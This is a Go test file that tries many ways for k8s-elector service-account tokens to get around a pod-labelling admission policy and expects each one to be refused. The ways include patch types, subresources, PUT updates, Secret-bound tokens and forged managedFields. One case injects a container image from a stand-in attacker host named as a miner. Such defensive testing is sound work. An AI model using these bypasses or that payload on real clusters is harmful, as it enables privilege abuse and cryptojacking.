package attack

// More ways around the policy k8s-elector-pod-label with the accounts' own
// tokens: other patch types, subresources, and updates that change nothing
// the policy lists.

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/vapor-ware/k8s-elector/internal/controlplane"
	"github.com/vapor-ware/k8s-elector/pkg/election"
	"github.com/vapor-ware/k8s-elector/pkg/webhook"
)

func rawPatch(ctx context.Context, cs kubernetes.Interface, ns, pod string, pt types.PatchType, body any, sub ...string) error {
	var b []byte
	switch v := body.(type) {
	case string:
		b = []byte(v)
	default:
		var err error
		if b, err = json.Marshal(v); err != nil {
			return err
		}
	}
	opts := metav1.PatchOptions{}
	if pt == types.ApplyPatchType {
		opts.FieldManager = "k8s-elector"
		opts.Force = new(true)
	}
	_, err := cs.CoreV1().Pods(ns).Patch(ctx, pod, pt, b, opts, sub...)
	return err
}

var byInvalid = refusal{name: "API validation", match: apierrors.IsInvalid}

func applyBody(pod string, meta map[string]any) map[string]any {
	meta["name"] = pod
	return map[string]any{"apiVersion": "v1", "kind": "Pod", "metadata": meta}
}

// TestDeletionCostWhateverThePatch: the same limits whatever the patch
// type or subresource.
func TestDeletionCostWhateverThePatch(t *testing.T) {
	a := newApp(t)
	ctx := ctxFor(t, 3*time.Minute)
	a.account("web")
	a.account("both")
	a.account("plain")
	costed := map[string]string{webhook.AnnotationElection: "web", webhook.AnnotationPodDeletionCost: "true"}
	web0 := a.pod("web-0", "web", costed)
	a.pod("web-1", "web", costed)
	native := a.pod("web-native", "web", map[string]string{webhook.AnnotationElection: "web", webhook.AnnotationPodDeletionCost: "true", webhook.AnnotationNativeSidecar: "true"})
	bothAnn := map[string]string{webhook.AnnotationElection: "both", webhook.AnnotationPodDeletionCost: "true", webhook.AnnotationPodLabel: roleKey}
	both0 := a.pod("both-0", "both", bothAnn)
	both1 := a.pod("both-1", "both", bothAnn)
	a.pod("plain-0", "plain", nil)
	asWeb0, asNative, asBoth0, asBoth1 := a.elector(web0), a.elector(native), a.elector(both0), a.elector(both1)
	key := election.AnnotationPodDeletionCost
	max := election.LeaderDeletionCost

	t.Run("legitimate", func(t *testing.T) {
		eventually(t, 30*time.Second, func() error {
			return mergePatch(ctx, asWeb0, a.ns, "web-0", cost(max))
		})
		allowed(t, "web-0 removing its cost", mergePatch(ctx, asWeb0, a.ns, "web-0", cost(nil)))
		if len(native.Spec.InitContainers) == 0 || native.Spec.InitContainers[0].Name != webhook.ContainerName {
			t.Errorf("web-native: elector is not an init container")
		}
		allowed(t, "web-native (native sidecar) setting its cost", mergePatch(ctx, asNative, a.ns, "web-native", cost(max)))
		allowed(t, "web-native removing its cost", mergePatch(ctx, asNative, a.ns, "web-native", cost(nil)))
		// label and cost in one patch, as podLabeler.patch sends them.
		eventually(t, 30*time.Second, func() error {
			return mergePatch(ctx, asBoth0, a.ns, "both-0", map[string]any{"metadata": map[string]any{
				"labels": map[string]any{roleKey: "leader"}, "annotations": map[string]any{key: max},
			}})
		})
		allowed(t, "both-1 demoting both-0 (label only)", mergePatch(ctx, asBoth1, a.ns, "both-0", labels(map[string]any{roleKey: "standby"})))
		allowed(t, "both-0 standby + cost removed", mergePatch(ctx, asBoth0, a.ns, "both-0", map[string]any{"metadata": map[string]any{
			"labels": map[string]any{roleKey: "standby"}, "annotations": map[string]any{key: nil},
		}}))
		allowed(t, "SSA of the cost on its own pod", rawPatch(ctx, asWeb0, a.ns, "web-0", types.ApplyPatchType,
			applyBody("web-0", map[string]any{"annotations": map[string]any{key: max}})))
		allowed(t, "JSON patch removing the cost of its own pod", rawPatch(ctx, asWeb0, a.ns, "web-0", types.JSONPatchType,
			`[{"op":"remove","path":"/metadata/annotations/controller.kubernetes.io~1pod-deletion-cost"}]`))
	})

	// A token bound to a Secret of the account: no pod-name.
	sec, err := env.Client.CoreV1().Secrets(a.ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "web-0"}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tr, err := env.Client.CoreV1().ServiceAccounts(a.ns).CreateToken(ctx, "web", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{
		ExpirationSeconds: new(int64(3600)),
		BoundObjectRef:    &authenticationv1.BoundObjectReference{Kind: "Secret", APIVersion: "v1", Name: sec.Name, UID: sec.UID},
	}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	asSecretBound := clientFor(t, tr.Status.Token)

	policy := []refusal{byPolicy(policyPodLabel)}
	attacks := []struct {
		name string
		do   func() error
		by   []refusal
	}{
		{"JSON patch: cost plus another annotation on its pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.JSONPatchType,
				`[{"op":"add","path":"/metadata/annotations/controller.kubernetes.io~1pod-deletion-cost","value":"2147483647"},{"op":"add","path":"/metadata/annotations/x","value":"y"}]`)
		}, policy},
		{"JSON patch: cost on another pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-1", types.JSONPatchType,
				`[{"op":"add","path":"/metadata/annotations/controller.kubernetes.io~1pod-deletion-cost","value":"2147483647"}]`)
		}, policy},
		{"JSON patch: replace all annotations with the cost", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.JSONPatchType,
				`[{"op":"replace","path":"/metadata/annotations","value":{"controller.kubernetes.io/pod-deletion-cost":"2147483647"}}]`)
		}, policy},
		{"SMP $patch: replace of annotations", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.StrategicMergePatchType,
				map[string]any{"metadata": map[string]any{"annotations": map[string]any{key: max, "$patch": "replace"}}})
		}, policy},
		{"SMP: cost on another pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-1", types.StrategicMergePatchType, cost(max))
		}, policy},
		{"SSA: cost on another pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-1", types.ApplyPatchType, applyBody("web-1", map[string]any{"annotations": map[string]any{key: max}}))
		}, policy},
		{"SSA: cost and a label on its pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.ApplyPatchType, applyBody("web-0", map[string]any{
				"annotations": map[string]any{key: max}, "labels": map[string]any{"team": "x"}}))
		}, policy},
		{"SSA: cost and an image on its pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.ApplyPatchType, map[string]any{"apiVersion": "v1", "kind": "Pod",
				"metadata": map[string]any{"name": "web-0", "annotations": map[string]any{key: max}},
				"spec":     map[string]any{"containers": []any{map[string]any{"name": "app", "image": "attacker.example/miner:latest"}}}})
		}, policy},
		{"pods/status merge patch of the cost", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.MergePatchType, cost(max), "status")
		}, []refusal{byRBAC("patch", "pods/status")}},
		{"pods/status merge patch of another annotation", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "plain-0", types.MergePatchType, map[string]any{"metadata": map[string]any{"annotations": map[string]any{"x": "y"}}}, "status")
		}, []refusal{byRBAC("patch", "pods/status")}},
		{"pods/resize of its pod", func() error {
			return rawPatch(ctx, asWeb0, a.ns, "web-0", types.StrategicMergePatchType,
				map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "app", "resources": map[string]any{"requests": map[string]any{"cpu": "1"}}}}}}, "resize")
		}, []refusal{byRBAC("patch", "pods/resize")}},
		{"update (PUT) of the cost", func() error {
			p := a.get("web-0")
			if p.Annotations == nil {
				p.Annotations = map[string]string{}
			}
			p.Annotations[key] = max
			_, err := asWeb0.CoreV1().Pods(a.ns).Update(ctx, p, metav1.UpdateOptions{})
			return err
		}, []refusal{byRBAC("update", "pods")}},
		{"token bound to a Secret sets the cost", func() error {
			return mergePatch(ctx, asSecretBound, a.ns, "web-0", cost(max))
		}, policy},
		{"both-1 removes both-0's cost along with the demotion", func() error {
			_ = mergePatch(ctx, asBoth0, a.ns, "both-0", cost(max))
			return mergePatch(ctx, asBoth1, a.ns, "both-0", map[string]any{"metadata": map[string]any{
				"labels": map[string]any{roleKey: "standby"}, "annotations": map[string]any{key: nil},
			}})
		}, policy},
		{"cost-only pod labels itself with the label key of its account's... (web has none)", func() error {
			return mergePatch(ctx, asWeb0, a.ns, "web-0", labels(map[string]any{roleKey: "leader"}))
		}, policy},
		{"cost with a different spelling (leading zero)", func() error {
			return mergePatch(ctx, asWeb0, a.ns, "web-0", cost("02147483647"))
		}, []refusal{byPolicy(policyPodLabel), byInvalid}},
		{"cost with a different spelling (plus sign)", func() error {
			return mergePatch(ctx, asWeb0, a.ns, "web-0", cost("+2147483647"))
		}, []refusal{byPolicy(policyPodLabel), byInvalid}},
	}
	for _, at := range attacks {
		t.Run(at.name, func(t *testing.T) {
			refused(t, "an elector account: "+at.name, at.do(), at.by...)
		})
	}

	t.Run("token bound to a pod of another account", func(t *testing.T) {
		p := a.get("plain-0")
		_, err := controlplane.Token(ctx, env.Client, a.ns, "web", p)
		if err == nil {
			t.Errorf("ATTACK SUCCEEDED: a token of web bound to plain-0 (runs as plain)")
		} else {
			t.Logf("refused: %v", err)
		}
	})
}

// TestNoOpUpdatesOfOtherPods: an update that changes none of what the
// policy lists (labels, annotations, spec, finalizers, owner references)
// still needs the election of the pod: otherwise a restricted account could
// wipe or forge the managedFields, or rewrite the generateName, of any pod
// of its namespace.
func TestNoOpUpdatesOfOtherPods(t *testing.T) {
	a := newApp(t)
	ctx := ctxFor(t, 2*time.Minute)
	a.account("web")
	a.account("lbl")
	a.account("plain")
	web0 := a.pod("web-0", "web", map[string]string{webhook.AnnotationElection: "web", webhook.AnnotationPodDeletionCost: "true"})
	lbl0 := a.pod("lbl-0", "lbl", map[string]string{webhook.AnnotationElection: "lbl", webhook.AnnotationPodLabel: roleKey})
	a.pod("plain-0", "plain", nil)
	asWeb0, asLbl0 := a.elector(web0), a.elector(lbl0)
	eventually(t, 30*time.Second, func() error {
		return mergePatch(ctx, asWeb0, a.ns, "web-0", cost(election.LeaderDeletionCost))
	})
	eventually(t, 30*time.Second, func() error {
		return mergePatch(ctx, asLbl0, a.ns, "lbl-0", labels(map[string]any{roleKey: "leader"}))
	})
	before := a.get("plain-0")

	policy := []refusal{byPolicy(policyPodLabel)}
	for _, at := range []struct {
		name  string
		cs    kubernetes.Interface
		pod   string
		patch map[string]any
	}{
		{"cost-only account wipes managedFields of a pod of no election", asWeb0, "plain-0", map[string]any{"metadata": map[string]any{"managedFields": []any{map[string]any{}}}}},
		{"cost-only account rewrites generateName of a pod of no election", asWeb0, "plain-0", map[string]any{"metadata": map[string]any{"generateName": "owned-by-web-"}}},
		{"label account rewrites generateName of another account's pod", asLbl0, "web-0", map[string]any{"metadata": map[string]any{"generateName": "owned-by-lbl-"}}},
		{"cost-only account forges managedFields on another account's pod", asWeb0, "lbl-0", map[string]any{"metadata": map[string]any{"managedFields": []any{map[string]any{
			"manager": "kubectl", "operation": "Apply", "apiVersion": "v1", "fieldsType": "FieldsV1",
			"fieldsV1": map[string]any{"f:metadata": map[string]any{"f:labels": map[string]any{"f:" + roleKey: map[string]any{}}}},
		}}}}},
	} {
		t.Run(at.name, func(t *testing.T) {
			refused(t, at.name, mergePatch(ctx, at.cs, a.ns, at.pod, at.patch), policy...)
		})
	}
	after := a.get("plain-0")
	t.Logf("plain-0 generateName %q -> %q; managedFields %d -> %d entries; resourceVersion %s -> %s",
		before.GenerateName, after.GenerateName, len(before.ManagedFields), len(after.ManagedFields), before.ResourceVersion, after.ResourceVersion)
	for _, m := range a.get("lbl-0").ManagedFields {
		t.Logf("lbl-0 managedFields: manager %q operation %s", m.Manager, m.Operation)
	}
}

// TestElectorsLabelAndCost: injected electors with both
// -pod-label and -pod-deletion-cost, run with their pods' own tokens,
// label and annotate across a handover.
func TestElectorsLabelAndCost(t *testing.T) {
	a := newApp(t)
	a.account("both")
	electAndHandOver(t, a, "both", "both", map[string]string{webhook.AnnotationPodDeletionCost: "true"})
	eventually(t, 30*time.Second, func() error {
		for _, name := range []string{"both-0", "both-1"} {
			p := a.get(name)
			if p.Labels[roleKey] == "leader" && p.Annotations[election.AnnotationPodDeletionCost] != election.LeaderDeletionCost {
				return fmt.Errorf("leader pod %s has cost %q", name, p.Annotations[election.AnnotationPodDeletionCost])
			}
		}
		return nil
	})
	for _, name := range []string{"both-0", "both-1"} {
		p := a.get(name)
		t.Logf("%s: %s=%q, cost %q", name, roleKey, p.Labels[roleKey], p.Annotations[election.AnnotationPodDeletionCost])
	}
}
